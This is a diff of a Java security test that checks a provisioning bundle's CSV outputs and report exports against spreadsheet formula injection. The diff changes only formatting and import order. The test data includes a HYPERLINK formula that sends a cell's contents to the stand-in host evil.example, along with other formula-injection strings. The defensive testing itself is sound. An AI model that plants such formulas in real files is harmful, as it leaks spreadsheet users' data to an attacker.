@@ -4,6 +4,10 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import io.provisioning.testsupport.ApiClient;
+import io.provisioning.testsupport.Await;
+import io.provisioning.testsupport.Reports;
+import io.provisioning.testsupport.TestEnvironment;
 import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -12,9 +16,7 @@ import java.nio.file.StandardCopyOption;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
-
 import javax.sql.DataSource;
-
 import org.apache.camel.main.Main;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
@@ -22,11 +24,6 @@ import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
-
-import io.provisioning.testsupport.ApiClient;
-import io.provisioning.testsupport.Await;
-import io.provisioning.testsupport.Reports;
-import io.provisioning.testsupport.TestEnvironment;
 
 /**
  * Every CSV the bundle writes is safe to open in a spreadsheet (OWASP CSV injection): a cell that starts with
@@ -37,7 +34,8 @@ class CsvInjectionSecurityTest {
 
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
 
-    private final TestEnvironment env = TestEnvironment.create("csv-injection-security").withQuickInbox()
+    private final TestEnvironment env = TestEnvironment.create("csv-injection-security")
+            .withQuickInbox()
             .with("provisioning.inbox.result-check-interval-ms", "300");
     private Main bundle;
 
@@ -65,7 +63,9 @@ class CsvInjectionSecurityTest {
         Path result = inbox.resolve("done").resolve("formulas.csv.result.csv");
         Await.until(() -> Files.exists(result), exists -> exists, Duration.ofSeconds(60));
 
-        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(Files.readString(result))).getRecords();
+        List<CSVRecord> records = CSVFormat.RFC4180
+                .parse(new StringReader(Files.readString(result)))
+                .getRecords();
         assertEquals(4, records.size(), records.toString());
         assertEquals("'" + FORMULA, records.get(1).get(1), "the user name cell");
         assertEquals("'@sum(1+1)", records.get(2).get(2), "the action cell (lower-cased by the reader)");
@@ -78,25 +78,34 @@ class CsvInjectionSecurityTest {
         DataSource db = bundle.getCamelContext().getRegistry().lookupByNameAndType("dataSource", DataSource.class);
         Reports.insert(db, Instant.now(), FORMULA, "salesforce", "create", "failure", "+SUM(A1:A9)");
         Reports.insert(db, Instant.now(), "-2+3@example.com", "salesforce", "create", "failure", "\rcmd");
-        ApiClient.Response export = env.api().get("/api/reports?format=csv&identifier=" + java.net.URLEncoder.encode(FORMULA,
-                StandardCharsets.UTF_8));
+        ApiClient.Response export = env.api()
+                .get("/api/reports?format=csv&identifier="
+                        + java.net.URLEncoder.encode(FORMULA, StandardCharsets.UTF_8));
         assertEquals(200, export.status(), export.body());
-        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(export.body())).getRecords();
+        List<CSVRecord> records =
+                CSVFormat.RFC4180.parse(new StringReader(export.body())).getRecords();
         assertTrue(records.size() >= 2, export.body());
         assertEquals("'" + FORMULA, records.get(1).get(1));
         assertEquals("'+SUM(A1:A9)", records.get(1).get(7));
         assertNoFormulaCell(records);
 
         ApiClient.Response all = env.api().get("/api/reports?format=csv");
-        List<CSVRecord> every = CSVFormat.RFC4180.parse(new StringReader(all.body())).getRecords();
-        assertTrue(every.stream().anyMatch(r -> r.get(1).equals("'-2+3@example.com") && r.get(7).equals("'\rcmd")), all.body());
+        List<CSVRecord> every =
+                CSVFormat.RFC4180.parse(new StringReader(all.body())).getRecords();
+        assertTrue(
+                every.stream()
+                        .anyMatch(r ->
+                                r.get(1).equals("'-2+3@example.com") && r.get(7).equals("'\rcmd")),
+                all.body());
         assertNoFormulaCell(every);
     }
 
     private static void assertNoFormulaCell(List<CSVRecord> records) {
         for (CSVRecord record : records) {
             for (String cell : record) {
-                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "formula cell " + cell + " in " + record);
+                assertFalse(
+                        !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
+                        "formula cell " + cell + " in " + record);
             }
         }
     }
